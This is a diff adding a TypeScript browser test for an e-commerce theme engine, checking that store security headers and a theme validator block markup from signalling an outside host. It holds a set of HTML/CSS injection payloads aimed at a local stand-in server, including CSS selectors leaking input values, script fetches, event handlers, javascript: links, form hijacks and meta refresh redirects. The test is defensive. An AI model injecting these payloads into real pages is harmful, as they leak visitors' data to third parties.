@@ -1,0 +1,151 @@
+import { once } from 'node:events'
+import { createServer, type Server } from 'node:http'
+import { validateTheme } from '@haat/theme-engine'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { startTestPlatform, type TestPlatform } from '../test-platform.ts'
+import { openBrowser, type TestBrowser } from './browser.ts'
+
+// The ways in which markup tells another host who is looking at a page: what a theme, or a text that somebody typed, could
+// try if it got past the engine. Each is put into a real page of a real store, under the headers that the store sends.
+
+let browser: TestBrowser
+let platform: TestPlatform
+let elsewhere: Server
+let between: Server
+let home: string
+let foreign: string
+const heard: string[] = []
+
+beforeAll(async () => {
+  ;[browser, platform] = await Promise.all([openBrowser(), startTestPlatform()])
+  elsewhere = createServer((request, response) => {
+    heard.push(request.url ?? '')
+    response.setHeader('access-control-allow-origin', '*').end('x')
+  }).listen(0, '127.0.0.1')
+  await once(elsewhere, 'listening')
+  foreign = addressOf(elsewhere)
+  between = serveStoreWithMarkup()
+  await once(between, 'listening')
+  home = `${platform.urls.storefront}/priya-masala`
+})
+afterAll(async () => {
+  elsewhere.close()
+  between.close()
+  await browser.close()
+  await platform.close()
+})
+beforeEach(() => {
+  heard.length = 0
+})
+
+const whileLoading = (): Record<string, string> => ({
+  'css-url': `<style>main{background:url(${foreign}/css-url)}</style>`,
+  'css-attribute': `<input value="secret"><style>input[value^="s"]{background:url(${foreign}/css-attribute)}</style>`,
+  'css-import': `<style>@import url(${foreign}/css-import);</style>`,
+  font: `<style>@font-face{font-family:spy;src:url(${foreign}/font)}</style><p style="font-family:spy">seen</p>`,
+  image: `<img src="${foreign}/image" alt="">`,
+  'inline-script': `<script>fetch("${foreign}/inline-script")</script>`,
+  handler: `<img src="data:," alt="" onerror='fetch("${foreign}/handler")'>`,
+  'svg-script': `<svg><script>fetch("${foreign}/svg-script")</script></svg>`,
+  frame: `<iframe src="${foreign}/frame" title="spy"></iframe>`,
+  object: `<object data="${foreign}/object"></object>`,
+  stylesheet: `<link rel="stylesheet" href="${foreign}/stylesheet">`,
+  prefetch: `<link rel="prefetch" href="${foreign}/prefetch">`,
+})
+const byItself = (): Record<string, string> => ({
+  'base-image': `<base href="${foreign}/"><img src="base-image" alt="">`,
+  form: `<form action="${foreign}/form" method="post"><button id="press">x</button></form>`,
+  'script-address': `<a id="press" href='javascript:fetch("${foreign}/script-address")'>x</a>`,
+})
+
+/** What the store would send if the markup stood in its home; without the policy where nothing protects it. */
+let inserted = { markup: '', is_protected: true }
+
+/** The store behind a host that slips the markup in, so that Chromium meets it as it meets any page. */
+function serveStoreWithMarkup(): Server {
+  return createServer(async (request, response) => {
+    const answer = await fetch(`${platform.urls.storefront}${request.url}`)
+    const policy = answer.headers.get('content-security-policy')
+    if (inserted.is_protected && policy !== null) response.setHeader('content-security-policy', policy)
+    response.setHeader('content-type', answer.headers.get('content-type') ?? 'text/plain')
+    const body = Buffer.from(await answer.arrayBuffer())
+    const is_page = answer.headers.get('content-type')?.startsWith('text/html')
+    response.end(is_page ? body.toString().replace('</main>', `${inserted.markup}</main>`) : body)
+  }).listen(0, '127.0.0.1')
+}
+
+async function openWith(markup: string, is_protected: boolean): Promise<Page> {
+  inserted = { markup, is_protected }
+  const page = await browser.newPage()
+  await page.goto(`${addressOf(between)}/priya-masala`, { waitUntil: 'load' })
+  await page.evaluate(() => document.getElementById('press')?.click())
+  return page
+}
+
+function addressOf(server: Server): string {
+  const address = server.address()
+  if (address === null || typeof address === 'string') throw new Error('The server has no port')
+  return `http://127.0.0.1:${address.port}`
+}
+
+describe('under the headers of a store, another host hears nothing of', () => {
+  test('whatever a page loads', async () => {
+    const tricks = whileLoading()
+    const open = await openWith(Object.values(tricks).join(''), false)
+    for (const name of Object.keys(tricks)) await expect.poll(() => heard, { timeout: 10_000 }).toContain(`/${name}`)
+    await open.close()
+
+    heard.length = 0
+    const shut = await openWith(Object.values(tricks).join(''), true)
+    await shut.waitForLoadState('networkidle')
+    expect(heard).toEqual([])
+    await shut.close()
+  })
+
+  test.each(['base-image', 'form', 'script-address'])('%s', async (name) => {
+    const markup = byItself()[name] ?? ''
+    const open = await openWith(markup, false)
+    await expect.poll(() => heard, { timeout: 10_000 }).toContain(`/${name}`)
+    await open.close()
+
+    heard.length = 0
+    const shut = await openWith(markup, true)
+    await shut.waitForLoadState('networkidle')
+    expect(heard).toEqual([])
+    await shut.close()
+  })
+})
+
+test('what no policy stops, a page that sends its visitor away by itself, is no part of a theme and of no text', async () => {
+  const refresh = `<meta http-equiv="refresh" content="0;url=${foreign}/refresh">`
+  const findings = validateTheme(
+    new Map([['sections/away.liquid', `{% comment %}\n@section "Away"\n{% endcomment %}\n<p>Hello</p>${refresh}`]]),
+  )
+  expect(findings.filter(({ file, severity }) => file === 'sections/away.liquid' && severity === 'error')).toHaveLength(
+    1,
+  )
+
+  const { token } = await signIn()
+  const text = `<p>Hello</p>${refresh}<a href="${foreign}/link">there</a>`
+  const body = { store_slug: 'priya-masala', title: 'Away', body: text }
+  const made = await call('/api/store/pages', body, token)
+  expect(made.status).toBe(201)
+  const page = await browser.newPage()
+  await page.goto(`${home}/pages/away`, { waitUntil: 'networkidle' })
+  expect(page.url()).toBe(`${home}/pages/away`)
+  expect(await page.locator('main meta').count()).toBe(0)
+  expect(await page.getByRole('link', { name: 'there' }).getAttribute('rel')).toContain('noopener')
+  expect(heard).toEqual([])
+  await page.close()
+})
+
+async function signIn(): Promise<{ token: string }> {
+  const { email, password } = platform.vendor
+  return (await call('/api/vendor/login', { email, password })).json()
+}
+
+function call(path: string, body: object, token?: string): Promise<Response> {
+  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
+  return fetch(`${platform.urls.backend}${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
+}
